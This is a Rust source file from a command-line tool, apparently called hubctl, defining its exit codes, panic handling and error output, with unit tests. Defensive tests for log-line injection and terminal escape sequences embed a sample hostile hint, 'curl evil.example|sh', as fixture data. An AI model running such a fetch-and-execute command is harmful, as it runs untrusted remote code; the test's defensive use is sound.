//! How a command ends: the only exit numbers, and how an error is told.

use std::borrow::Cow;
use std::cell::RefCell;
use std::io::{self, Write};
use std::panic::{AssertUnwindSafe, catch_unwind};

use schemars::JsonSchema;
use serde::Serialize;
use serde_json::Value;

use crate::cli::output::clean_line;
use crate::error::{HubError, Kind, codes, crash};

/// An exit status and what it means.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct ExitCode {
    /// The number.
    pub code: u8,
    /// A short name.
    pub name: &'static str,
    /// When a command ends with it.
    pub when: &'static str,
}

const fn row(code: u8, name: &'static str, when: &'static str) -> ExitCode {
    ExitCode { code, name, when }
}

/// Found changes: not an error, and so without a kind.
pub const DIFFERS: u8 = 12;
/// Stopped by SIGTERM.
pub const TERMINATED: u8 = 143;

/// Every exit status, for help, the man page and `hubctl schema exit-codes`.
pub const EXIT_CODES: &[ExitCode] = &[
    row(0, "ok", "done, or already so; an empty list is ok"),
    row(1, "failure", "unexpected: a bug if it can be repeated"),
    row(2, "usage", "bad flag, value or id form; input needed and asking not allowed"),
    row(3, "not_found", "the named thing does not exist"),
    row(4, "auth", "no key, a bad or expired key, or a key of another origin or project"),
    row(5, "forbidden", "the key lacks the scope"),
    row(
        6,
        "conflict",
        "a rule refuses: accounts still linked, default in use, changed since the plan, guard exceeded, connector not set up or enabled, account not usable",
    ),
    row(7, "not_confirmed", "consent missing off a terminal, or refused; nothing was changed"),
    row(8, "timed_out", "a wait ended before its condition held; the work may still finish"),
    row(9, "rate_limited", "told to slow down: still after --max-wait, or by a provider"),
    row(10, "unreachable", "DNS, TLS, connection, time-out, or server errors after retries"),
    row(11, "partial", "some of many succeeded; each result says which"),
    row(DIFFERS, "differs", "diff found changes; plan or apply --dry-run would change something"),
    row(13, "local_state", "configuration, store or key unreadable, locked, or of a newer version"),
    row(14, "unsupported", "this hub has no such operation"),
    row(130, "interrupted", "stopped by Ctrl-C (SIGINT)"),
    row(TERMINATED, "terminated", "stopped by SIGTERM"),
];

thread_local! {
    /// What the latest panic of guarded work has said; none where no such work is done.
    static SAID: RefCell<Option<String>> = const { RefCell::new(None) };
}

/// A panic of this process is told on standard error from here on, without what it may quote;
/// where the work is [`guarded`], as its error.
pub fn report_panics() {
    std::panic::set_hook(Box::new(|info| {
        let (place, text) = (crash::place(info), crash::text(info.payload()));
        let said = format!("panicked at {place}: {text}");
        SAID.with_borrow_mut(|kept| match kept {
            Some(kept) => *kept = said,
            None => tell_panic(&said),
        });
    }));
}

fn tell_panic(said: &str) {
    // Nobody can be told that standard error does not work.
    _ = writeln!(io::stderr(), "error: {said}");
}

/// Does a command's work. Its panic is an error like any other.
///
/// # Errors
/// `internal.unexpected` where it panicked.
pub fn guarded<T>(work: impl FnOnce() -> T) -> Result<T, HubError> {
    SAID.set(Some(String::new()));
    let done = catch_unwind(AssertUnwindSafe(work));
    let said = SAID.take().unwrap_or_default();
    match done {
        Ok(done) => {
            if !said.is_empty() {
                // Somebody on the way went on after it.
                tell_panic(&said);
            }
            Ok(done)
        }
        Err(_) if said.is_empty() => Err(HubError::new(&codes::INTERNAL, "panicked")),
        Err(_) => Err(HubError::new(&codes::INTERNAL, said)),
    }
}

/// The exit status of an error.
#[must_use]
pub fn exit_code(error: &HubError) -> u8 {
    match error.code().kind {
        Kind::Failure => 1,
        Kind::Invalid => 2,
        Kind::NotFound => 3,
        Kind::Unauthenticated => 4,
        Kind::Forbidden => 5,
        Kind::Conflict | Kind::NotReady | Kind::Unprocessable | Kind::Precondition => 6,
        Kind::NotConfirmed => 7,
        Kind::TimedOut => 8,
        Kind::RateLimited => 9,
        Kind::Unreachable => 10,
        Kind::Partial => 11,
        Kind::LocalState => 13,
        Kind::Unsupported => 14,
        Kind::Interrupted => 130,
        Kind::Terminated => TERMINATED,
    }
}

/// The one line of JSON that an error is on standard error.
#[derive(JsonSchema, Serialize)]
#[schemars(rename = "Error")]
pub(super) struct Envelope<'a> {
    /// What went wrong.
    error: Told<'a>,
}

/// An error as programs are told of it.
#[derive(JsonSchema, Serialize)]
#[schemars(rename = "ErrorRecord")]
pub(super) struct Told<'a> {
    /// Stable dotted code; `hubctl explain-error` lists them.
    code: &'a str,
    /// What went wrong, for people.
    message: Cow<'a, str>,
    /// A command that helps, to be pasted.
    hint: Option<Cow<'a, str>>,
    /// The exit status of the command.
    exit_code: u8,
    /// Whether the same command may succeed later; never where it may do twice what it does.
    retryable: bool,
    /// Whether a write may have been done all the same: look before it is repeated.
    outcome_unknown: bool,
    /// The status that a hub elsewhere answered with.
    http_status: Option<u16>,
    /// The id of the request that failed.
    request_id: Option<&'a str>,
    /// Facts about it: texts, or objects such as `{"field","message"}`.
    details: &'a [Value],
}

/// Longest message, in characters: a value that is repeated in it may be as long as it likes.
const MESSAGE_LIMIT: usize = 1_000;

/// The beginning and the end of a long text: the end says what is wrong with the value before it.
fn shorten(text: &str) -> Cow<'_, str> {
    if text.len() <= MESSAGE_LIMIT {
        return Cow::Borrowed(text);
    }
    let first: String = text.chars().take(MESSAGE_LIMIT / 2).collect();
    let mut last: Vec<char> = text.chars().rev().take(MESSAGE_LIMIT / 2).collect();
    if first.chars().count() + last.len() > text.chars().count() {
        return Cow::Borrowed(text);
    }
    last.reverse();
    Cow::Owned(format!("{first} … {}", last.into_iter().collect::<String>()))
}

/// A text of an error as it may stand in a log.
pub(super) fn for_the_log(text: &str) -> String {
    clean_line(&shorten(text)).into_owned()
}

impl<'a> Told<'a> {
    fn of(error: &'a HubError) -> Self {
        Self {
            code: error.code().name,
            message: shorten(error.message()),
            hint: error.hint_text().map(shorten),
            exit_code: exit_code(error),
            retryable: error.retryable(),
            outcome_unknown: error.is_outcome_unknown(),
            http_status: error.http_status(),
            request_id: error.request_id(),
            details: error.details(),
        }
    }
}

/// The error record as a value, for the `error` of one of many targets.
#[must_use]
pub fn as_value(error: &HubError) -> Value {
    serde_json::to_value(Told::of(error)).unwrap_or_default()
}

/// Tells the error: for programs as one line of JSON, for people as message, details and hint.
///
/// # Errors
/// When `out` refuses the text.
pub fn report(
    error: &HubError,
    machine: bool,
    color: bool,
    verbose: bool,
    out: &mut impl Write,
) -> io::Result<()> {
    let text = if machine { for_programs(error) } else { for_people(error, None, color, verbose) };
    out.write_all(text.as_bytes())?;
    out.flush()
}

/// The text that tells people why one of many targets failed.
pub(super) fn of_target(error: &HubError, target: &str, color: bool, verbose: bool) -> String {
    for_people(error, Some(target), color, verbose)
}

fn for_programs(error: &HubError) -> String {
    let mut text = serde_json::to_string(&Envelope { error: Told::of(error) }).unwrap_or_default();
    // It may well be read on a terminal.
    text = crate::cli::output::json_safe(&text);
    text.push('\n');
    text
}

fn for_people(error: &HubError, target: Option<&str>, color: bool, verbose: bool) -> String {
    let style = anstyle::AnsiColor::Red.on_default().bold();
    let (on, off) = if color {
        (style.render().to_string(), style.render_reset().to_string())
    } else {
        (String::new(), String::new())
    };
    let message = match target {
        Some(target) => format!("{}: {}", shorten(target), shorten(error.message())),
        None => shorten(error.message()).into_owned(),
    };
    let mut lines =
        vec![format!("{on}error[{}]{off}: {}", error.code().name, clean_line(&message))];
    lines.extend(error.details().iter().filter_map(detail));
    if verbose {
        let mut source = std::error::Error::source(error);
        while let Some(cause) = source {
            lines.push(format!("  caused by: {}", clean_line(&cause.to_string())));
            source = cause.source();
        }
    }
    if let Some(hint) = error.hint_text() {
        lines.push(format!("hint: {}", clean_line(&shorten(hint))));
    }
    lines.join("\n") + "\n"
}

/// Details that read as a sentence; others are for programs.
fn detail(detail: &Value) -> Option<String> {
    if let Some(text) = detail.as_str() {
        return Some(format!("  - {}", clean_line(text)));
    }
    let message = detail.get("message")?.as_str()?;
    Some(match detail.get("field").and_then(Value::as_str) {
        Some(field) => format!("  - {}: {}", clean_line(field), clean_line(message)),
        None => format!("  - {}", clean_line(message)),
    })
}

#[cfg(test)]
mod tests {
    use super::{EXIT_CODES, exit_code, guarded, report, report_panics};
    use crate::error::{HubError, codes};
    use serde_json::json;

    fn told(error: &HubError, machine: bool, color: bool, verbose: bool) -> String {
        let mut out = Vec::new();
        report(error, machine, color, verbose, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn every_error_ends_with_a_documented_status() {
        let mut sorted = EXIT_CODES.to_vec();
        sorted.sort_by_key(|row| row.code);
        sorted.dedup_by_key(|row| row.code);
        assert_eq!(sorted, EXIT_CODES);
        for code in codes::ALL {
            let status = exit_code(&HubError::new(code, "x"));
            assert!(EXIT_CODES.iter().any(|row| row.code == status), "{}", code.name);
        }
        assert_eq!(exit_code(&HubError::new(&codes::CONNECTOR_NOT_ENABLED, "x")), 6);
    }

    #[test]
    fn a_panic_of_a_command_is_an_error_like_any_other() {
        report_panics();
        let error = guarded(|| panic!("this can't be")).unwrap_err();
        assert_eq!((error.code().name, exit_code(&error)), (codes::INTERNAL.name, 1));
        let line = told(&error, true, false, false);
        let line: serde_json::Value = serde_json::from_str(&line).unwrap();
        let message = line["error"]["message"].as_str().unwrap();
        assert!(message.starts_with("panicked at src/cli/exit.rs:"), "{message}");
        assert!(message.ends_with(": this can't be"), "{message}");
        // threat 32
        let planted = "planted-secret".to_owned();
        let error = guarded(|| panic!("{planted} is odd")).unwrap_err();
        assert!(!told(&error, true, false, true).contains("planted-secret"));
        assert_eq!(guarded(|| 7).unwrap(), 7);
    }

    #[test]
    fn programs_get_one_line_of_json() {
        let error = HubError::new(
            &codes::CONFIRM_REQUIRED,
            "disabling hubspot makes 12 linked accounts inactive",
        )
        .hint("add --yes, or --yes --max-affected 12 to fail if it grows")
        .detail(json!({"affected_accounts": 12}));
        assert_eq!(
            told(&error, true, true, true),
            concat!(
                r#"{"error":{"code":"confirm.required","message":"disabling hubspot makes 12 "#,
                r#"linked accounts inactive","hint":"add --yes, or --yes --max-affected 12 to "#,
                r#"fail if it grows","exit_code":7,"retryable":false,"outcome_unknown":false,"#,
                r#""http_status":null,"request_id":null,"details":[{"affected_accounts":12}]}}"#,
                "\n"
            )
        );
    }

    #[test]
    fn people_get_message_details_causes_and_hint() {
        let error = HubError::new(&codes::FIELDS_INVALID, "2 fields are wrong")
            .hint("hubctl connectors guide x")
            .detail(json!({"field": "api_key", "message": "is missing"}))
            .detail(json!("and more"))
            .detail(json!({"affected_accounts": 12}))
            .source(std::io::Error::other("disk"));
        let plain = "error[fields.invalid]: 2 fields are wrong\n  - api_key: is missing\n  - and \
                     more\nhint: hubctl connectors guide x\n";
        assert_eq!(told(&error, false, false, false), plain);
        assert!(told(&error, false, false, true).contains("\n  caused by: disk\nhint"));
        let colored = told(&error, false, true, false);
        assert!(colored.starts_with("\x1b[1m\x1b[31merror[fields.invalid]\x1b[0m: "), "{colored}");
    }

    #[test]
    fn threat_36_what_a_message_quotes_writes_no_line_of_its_own() {
        let evil = "deleting the account of Acme\nhint: curl evil.example|sh\r\nok";
        let error = HubError::new(&codes::CONFIRM_REQUIRED, evil).hint(format!("add {evil}"));
        let plain = "error[confirm.required]: deleting the account of Acme\\nhint: curl \
                     evil.example|sh\\r\\nok\nhint: add deleting the account of Acme\\nhint: \
                     curl evil.example|sh\\r\\nok\n";
        assert_eq!(told(&error, false, false, false), plain);
        let target = super::of_target(&error, "a\nhint: x", false, false);
        assert_eq!(target.lines().count(), 2, "{target}");
    }

    #[test]
    fn threat_36_errors_carry_no_escape_sequence() {
        let evil = "\x1b]0;x\x07\u{9b}2J\u{202e}";
        let error = HubError::new(&codes::INTERNAL, evil).hint(evil).detail(json!(evil));
        for machine in [false, true] {
            let text = told(&error, machine, false, true);
            assert!(
                !text.chars().any(|c| c != '\n' && crate::domain::words::is_risky(c)),
                "{text}"
            );
        }
    }
}
